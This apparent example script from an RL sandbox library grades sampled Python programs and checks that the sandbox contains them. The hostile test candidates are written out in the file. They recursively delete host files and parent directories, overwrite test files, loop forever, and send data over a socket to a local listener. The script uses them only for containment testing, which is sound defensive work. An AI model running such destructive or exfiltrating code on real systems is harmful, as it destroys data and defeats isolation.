"""Code RL: grade sampled programs in sandboxed envs, destructive ones included.

The env (``envs/code_env``) takes Python source for ``solution.py`` as its action, runs
the task's unit tests on it and pays 1.0 when they pass. The "policy" here is a toy:
it samples programs from a fixed list of right, wrong and hostile candidates. The
hostile ones try to delete what they can reach (a sentinel file this script creates
on the host, the env's own directory, the workspace's parents), loop forever (the env's
own time limit grades them; the pool's ``step_timeout`` is the backstop, reported
as a straggler), and phone home over a socket to 127.0.0.1. The script then checks that nothing outside
the sandboxes was touched and prints the pool's timing, envs/GiB and isolation::

    python examples/code_rl.py --rounds 3 --n-envs 8
"""

from __future__ import annotations

import argparse
import hashlib
import os
import socket
import tempfile
import threading
import time

import numpy as np

from boltzlabs_gym import RLPool
from boltzlabs_gym.testing import CODE_ENV_BROKEN, CODE_ENV_GOOD

HERE = os.path.dirname(os.path.abspath(__file__))
CODE_ENV = os.path.join(os.path.dirname(HERE), "envs", "code_env")

RIGHT = {
    "right/plain": CODE_ENV_GOOD,
    "right/concat": '''
add = lambda a, b: a + b

def fizzbuzz(n):
    return ("Fizz" * (n % 3 == 0) + "Buzz" * (n % 5 == 0)) or str(n)
''',
}

WRONG = {
    "wrong/order": '''
def add(a, b):
    return a + b

def fizzbuzz(n):
    if n % 3 == 0:
        return "Fizz"
    if n % 5 == 0:
        return "Buzz"
    if n % 15 == 0:
        return "FizzBuzz"
    return str(n)
''',
    "wrong/syntax": CODE_ENV_BROKEN,
}


def hostile(sentinel: str, port: int) -> dict:
    """Programs that attack the grader's host; each reports what it managed to do."""
    sentinel_dir = os.path.dirname(sentinel)
    return {
        "hostile/rmtree": f'''
import os, shutil
for target in [{sentinel!r}, {sentinel_dir!r}, "/env", os.environ.get("BOLTZLABS_ENV_DIR", "/env"),
               os.path.dirname(os.getcwd()), os.path.dirname(os.path.dirname(os.getcwd()))]:
    try:
        if os.path.isdir(target):
            shutil.rmtree(target)
        else:
            os.remove(target)
        print("HOSTILE deleted", target)
    except Exception as exc:
        print("HOSTILE could not delete", target, "->", type(exc).__name__)
for target in ["/env/tests/test_solution.py", "/env/pwned.txt"]:
    try:
        with open(target, "w") as f:
            f.write("pwned")
        print("HOSTILE wrote", target)
    except Exception as exc:
        print("HOSTILE could not write", target, "->", type(exc).__name__)
''',
        "hostile/forever": "while True:\n    pass\n",
        "hostile/socket": f'''
import socket
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
    s.sendall(b"exfiltrated")
    s.close()
    print("HOSTILE connected to 127.0.0.1:{port}")
except Exception as exc:
    print("HOSTILE could not connect ->", type(exc).__name__)
''',
    }


def tree_digest(path: str) -> str:
    h = hashlib.sha256()
    for root, dirs, files in sorted(os.walk(path)):
        dirs.sort()
        for name in sorted(files):
            if name.endswith(".pyc"):
                continue
            p = os.path.join(root, name)
            h.update(os.path.relpath(p, path).encode())
            with open(p, "rb") as f:
                h.update(f.read())
    return h.hexdigest()


class Listener:
    """A TCP server on 127.0.0.1 that records anything a sandboxed program sends it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(1024))
                except OSError:
                    pass

    def close(self):
        self._stop = True
        self.thread.join(2)
        self.sock.close()


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--rounds", type=int, default=3)
    p.add_argument("--n-envs", type=int, default=8)
    p.add_argument("--seed", type=int, default=0)
    p.add_argument("--isolation", default="auto")
    p.add_argument("--time-limit", type=float, default=2.0, help="the env's own limit on one test run (s)")
    args = p.parse_args()

    tmp = tempfile.mkdtemp(prefix="code-rl-host-")
    sentinel = os.path.join(tmp, "sentinel.txt")
    with open(sentinel, "w") as f:
        f.write("the trainer's data\n")
    env_digest = tree_digest(CODE_ENV)
    listener = Listener()
    rng = np.random.default_rng(args.seed)
    t_start = time.perf_counter()
    contained = True
    try:
        pool = RLPool(
            CODE_ENV,
            args.n_envs,
            isolation=args.isolation,
            step_timeout=args.time_limit + 3.0,  # backstop; the env's own limit fires first
            env_vars={"CODE_ENV_TIME_LIMIT_S": str(args.time_limit)},
        )
        with pool:
            print(f"isolation: {pool.isolation}")
            candidates = dict(RIGHT, **WRONG)
            if pool.isolation.backend == "none":
                print("isolation is 'none': NOT running the hostile candidates (they would reach the host)")
            else:
                candidates.update(hostile(sentinel, listener.port))
            names = sorted(candidates)
            totals: dict[str, list[float]] = {n: [] for n in names}
            cover = -(-len(names) // args.n_envs)
            for rnd in range(max(args.rounds, cover)):
                # The first rounds grade every candidate once; later ones sample the "policy".
                if rnd < cover:
                    picks = [names[(rnd * args.n_envs + k) % len(names)] for k in range(args.n_envs)]
                else:
                    picks = list(rng.choice(names, args.n_envs))
                pool.reset(seed=args.seed + rnd)
                t0 = time.perf_counter()
                _, rewards, _, infos = pool.step([candidates[n] for n in picks])
                print(f"round {rnd}: graded {len(picks)} programs in {time.perf_counter() - t0:.2f} s")
                for name, reward, info in zip(picks, rewards, infos):
                    totals[name].append(float(reward))
                    notes = []
                    if info.get("boltzlabs_straggler"):
                        notes.append("STRAGGLER (missed step_timeout)")
                    if info.get("boltzlabs_error"):
                        notes.append("ERROR " + (info["boltzlabs_error"]["reason"].splitlines() or [""])[0])
                    out = str(info.get("output", ""))
                    if "timed out" in out:
                        notes.append("timed out (env's own limit)")
                    notes += [line.strip() for line in out.splitlines() if line.startswith("HOSTILE")]
                    print(f"  {name:16s} reward={reward:.1f}  {'; '.join(notes)}")
                print(f"  timing: {pool.timing}")
            print("mean reward per candidate:")
            for name in names:
                if totals[name]:
                    print(f"  {name:16s} {np.mean(totals[name]):.2f} over {len(totals[name])}")
            print(f"envs/GiB: {pool.envs_per_gb():.1f}")
            print(f"totals: stragglers={pool.timing.total_stragglers} errors={pool.timing.total_errors}")
        time.sleep(0.3)  # let a late connection land before we look
    finally:
        listener.close()
    sentinel_ok = os.path.exists(sentinel) and open(sentinel).read() == "the trainer's data\n"
    env_ok = tree_digest(CODE_ENV) == env_digest
    net_ok = not listener.received
    contained = sentinel_ok and env_ok and net_ok
    print(f"host sentinel intact: {sentinel_ok}")
    print(f"env dir intact: {env_ok}")
    print(f"bytes received on 127.0.0.1:{listener.port}: {sum(map(len, listener.received))}")
    print(f"CONTAINED={contained}")
    print(f"wall_s={time.perf_counter() - t_start:.1f}")
    if sentinel_ok:
        os.remove(sentinel)
    os.rmdir(tmp) if not os.listdir(tmp) else None
    return 0 if contained else 1


if __name__ == "__main__":
    raise SystemExit(main())
